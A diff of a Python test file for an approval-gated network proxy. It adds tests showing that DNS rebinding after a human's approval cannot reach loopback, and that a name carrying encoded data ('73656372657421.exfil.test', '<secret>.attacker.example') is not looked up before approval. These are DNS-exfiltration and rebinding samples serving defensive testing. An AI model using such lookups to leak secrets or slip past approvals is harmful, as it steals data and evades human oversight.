@@ -63,6 +63,8 @@ class Running:
     origin: int  # the HTTP server's
     asked: list[tuple[str | None, str, int]]
     answer: list[bool]  # what the stand-in human says to an ask
+    reasons: list[str]  # the reason each question gave
+    looked_up: list[str]  # every name the proxy resolved
 
 
 @pytest.fixture
@@ -76,11 +78,14 @@ def running() -> Iterator[Running]:
     )
     asked: list[tuple[str | None, str, int]] = []
     answer: list[bool] = []
+    reasons: list[str] = []
+    looked_up: list[str] = []
 
     rebinding = ["93.184.216.34", "127.0.0.1"]  # rebind.test: a public answer first, then loopback
 
     async def resolver(host: str, port: int) -> list[IPAddress]:
         # The test hook: chosen names lead to loopback, where the test's server listens; nothing else resolves.
+        looked_up.append(host)
         if host == "rebind.test":
             return [ipaddress.ip_address(rebinding.pop(0) if len(rebinding) > 1 else rebinding[0])]
         if host in NAMES:
@@ -92,7 +97,9 @@ def running() -> Iterator[Running]:
 
     async def asker(token: str | None, host: str, port: int, verdict: Verdict) -> Verdict:
         asked.append((token, host, port))
-        if answer and answer[0]:
+        reasons.append(verdict.reason)
+        said = answer.pop(0) if len(answer) > 1 else bool(answer and answer[0])  # several: one per question
+        if said:
             # The approval covers the special addresses the question showed (verdict.addresses), no others.
             return Verdict("allow", "approved-command", "approved by the stand-in human", verdict.addresses)
         return Verdict("deny", "not-approved", "refused by the stand-in human")
@@ -114,7 +121,7 @@ def running() -> Iterator[Running]:
     thread.start()
     assert ready.wait(10)
     try:
-        yield Running(proxy, listener.getsockname()[1], oport, asked, answer)
+        yield Running(proxy, listener.getsockname()[1], oport, asked, answer, reasons, looked_up)
     finally:
         asyncio.run_coroutine_threadsafe(proxy.close(), loop).result(10)
         loop.call_soon_threadsafe(loop.stop)
@@ -301,12 +308,26 @@ def test_made_up_tokens_cannot_grow_the_proxys_tables(running: Running) -> None:
 
 
 def test_dns_rebinding_after_an_approval_cannot_reach_loopback(running: Running) -> None:
-    # The attack: the question shows a name that resolves to a public address; once approved, the name's next
-    # answer is 127.0.0.1 (or 169.254.169.254). The approval covers only the special addresses it showed: none.
+    # The attack: the human approves a name; its first answer is a public address, a later one 127.0.0.1 (or
+    # 169.254.169.254). The approval covers only what its human saw: the name, no special address. Reaching one
+    # takes a second question that names the address, and a no refuses it.
     running.answer.append(True)
+    status, _, _ = connect_get(running, "rebind.test", running.origin, token="call6")
+    assert status == 502  # the public answer (nothing listens there in this test)
+    running.answer[:] = [True, False]  # yes to the name again; no once told it resolves to loopback
     status, headers, _ = connect_get(running, "rebind.test", running.origin, token="call6")
-    assert status == 403 and headers["x-mcp-guard-rule"] == "private-address"
-    assert running.asked == [("call6", "rebind.test", running.origin)]
+    assert status == 403 and headers["x-mcp-guard-rule"] == "not-approved"
+    assert running.asked == [("call6", "rebind.test", running.origin)] * 3  # the name twice, then the warning
+    assert "WARNING: it resolves to 127.0.0.1" in running.reasons[-1]
+
+
+def test_a_name_no_rule_allows_is_not_looked_up_before_its_human_says_yes(running: Running) -> None:
+    # The attack: a lookup carries data out by itself (``<secret>.attacker.example`` reaches the attacker's name
+    # server), whatever the answer to the question: no lookup before the yes, none after a no.
+    for token in ("call7", "call8"):
+        status, _, _ = connect_get(running, "73656372657421.exfil.test", running.origin, token=token)
+        assert status == 403
+    assert "73656372657421.exfil.test" not in running.looked_up
 
 
 def test_a_calls_listener_let_go_at_its_end_never_steals_the_next_sockets_wakeups() -> None:
